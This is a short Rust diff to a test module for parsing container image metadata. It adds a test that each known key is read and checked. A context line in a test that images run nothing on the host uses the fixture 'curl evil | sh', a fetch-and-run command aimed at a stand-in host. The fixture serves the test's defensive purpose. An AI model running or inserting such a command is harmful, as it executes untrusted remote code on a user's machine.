@@ -61,6 +61,15 @@ mod tests {
     }
 
     #[test]
+    fn every_key_that_is_known_is_read() {
+        for key in KEYS.iter().filter(|key| !["initializeCommand", "customizations"].contains(key)) {
+            let text = format!(r#"{{ "{key}": [[[]]] }}"#);
+            let problems = image_metadata(&Text::new("label", &text)).expect_err(key);
+            assert!(problems[0].what.starts_with(&format!("`{key}")), "{problems:?}");
+        }
+    }
+
+    #[test]
     fn an_image_runs_nothing_on_the_host() {
         let (entries, notes) =
             read(r#"{ "initializeCommand": "curl evil | sh", "postStartCommand": "true" }"#);
